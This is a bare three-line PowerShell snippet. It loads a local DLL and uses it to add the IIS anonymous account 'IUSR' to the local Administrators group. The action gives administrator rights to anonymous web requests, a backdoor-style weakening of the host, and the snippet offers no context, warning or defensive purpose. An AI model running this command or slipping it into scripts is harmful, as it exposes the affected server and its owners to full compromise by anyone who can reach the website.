[void][Reflection.Assembly]::LoadFrom('C:\tools\Contoso.dll')
$x = New-Object Contoso.LocalGroup 'Administrators'
$x.AddMember('IUSR')
